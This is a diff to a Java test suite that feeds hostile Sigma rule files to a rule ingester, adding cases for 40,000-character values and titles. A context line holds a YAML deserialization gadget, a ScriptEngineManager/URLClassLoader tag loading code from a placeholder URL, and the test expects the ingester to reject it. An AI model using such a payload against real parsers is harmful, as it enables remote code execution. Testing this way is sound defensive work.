@@ -112,6 +112,13 @@ class HostileRuleFilesTest {
         CASES.put("tab_indent.yml", o -> o.error("YAML error") && o.problem().get().line() > 0);
         write("duplicate_keys.yml", sigma("00000000-0000-0000-0000-0000000000a2", "Duplicate Keys", "  s:\n    EventID: 1\n  condition: s\n") + "title: Duplicate Keys Again\n");
         CASES.put("duplicate_keys.yml", o -> o.ingestedWithNote("duplicate key"));
+        // Lucene refuses a term over 32,766 bytes: one such value used to fail the whole ingest, and every refresh.
+        write("immense_value.yml", sigma("00000000-0000-0000-0000-0000000000c1", "Immense Value",
+                "  s:\n    CommandLine|contains: '" + "A".repeat(40_000) + "'\n  condition: s\n"));
+        CASES.put("immense_value.yml", o -> o.ingestedWithNote(null));
+        write("immense_title.yml", sigma("00000000-0000-0000-0000-0000000000c2", "T" + "x".repeat(40_000),
+                "  s:\n    EventID: 4\n  condition: s\n"));
+        CASES.put("immense_title.yml", o -> o.ingestedWithNote(null));
         write("script_engine_tag.yml", "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
         CASES.put("script_engine_tag.yml", o -> o.error("unsupported tag"));
         write("url_tag.yml", "title: x\nref: !!java.net.URL [\"http://example.org/\"]\n");
